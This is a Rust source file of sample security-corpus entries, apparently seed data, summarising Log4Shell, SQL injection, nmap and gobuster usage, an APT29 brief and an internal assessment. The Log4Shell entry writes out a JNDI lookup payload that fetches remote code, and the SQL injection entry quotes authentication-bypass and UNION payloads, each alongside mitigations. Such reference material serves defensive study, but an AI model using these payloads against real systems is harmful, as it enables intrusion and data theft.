use bastion_core::Collection;

pub struct SampleDocument {
    pub source_id: &'static str,
    pub collection: Collection,
    pub text: &'static str,
    pub tags: &'static [&'static str],
}

/// A small security corpus spanning several collections.
pub const SAMPLE_DOCUMENTS: &[SampleDocument] = &[
    SampleDocument {
        source_id: "cve-2021-44228",
        collection: Collection::Vulnerabilities,
        text: "Log4Shell (CVE-2021-44228) is a remote code execution flaw in Apache Log4j 2. \
               An attacker who can cause a crafted string such as ${jndi:ldap://host/a} to be \
               logged makes the JNDI lookup fetch and execute a remote class. Versions 2.0-beta9 \
               through 2.14.1 are affected. Upgrade to 2.17.1 or later, or remove the \
               JndiLookup class from the classpath as a stopgap.",
        tags: &["java", "rce"],
    },
    SampleDocument {
        source_id: "owasp-sqli",
        collection: Collection::Techniques,
        text: "SQL injection happens when untrusted input is concatenated into a query. \
               Classic payloads include ' OR '1'='1 for authentication bypass and UNION SELECT \
               for data extraction. Blind variants infer data from boolean responses or time \
               delays. Parameterized queries and least-privilege database accounts are the \
               primary defenses.",
        tags: &["web", "injection"],
    },
    SampleDocument {
        source_id: "nmap-guide",
        collection: Collection::Tools,
        text: "Nmap discovers hosts and services. A SYN scan (-sS) is fast and quiet; -sV detects \
               service versions and -O guesses the operating system. Use -p- to scan every TCP \
               port and --script vuln to run vulnerability detection scripts. Output with -oA \
               to keep normal, XML, and grepable copies.",
        tags: &["recon", "scanning"],
    },
    SampleDocument {
        source_id: "apt29-brief",
        collection: Collection::ThreatIntel,
        text: "APT29 is a state-sponsored group known for spear-phishing, supply chain \
               intrusions, and abuse of cloud identity. Recent campaigns targeted diplomatic \
               entities with malicious ISO attachments and used legitimate cloud storage for \
               command and control.",
        tags: &["apt", "phishing"],
    },
    SampleDocument {
        source_id: "gobuster-notes",
        collection: Collection::Tools,
        text: "Gobuster brute-forces directories, DNS subdomains, and virtual hosts. Pair it \
               with a curated wordlist and tune threads with -t. Status code filtering hides \
               noise from catch-all responses.",
        tags: &["web", "recon"],
    },
    SampleDocument {
        source_id: "q3-assessment",
        collection: Collection::Reports,
        text: "The third quarter assessment found three high severity issues: an exposed admin \
               panel, outdated TLS configuration, and default credentials on a network printer. \
               All were remediated within the agreed window.",
        tags: &["internal"],
    },
];
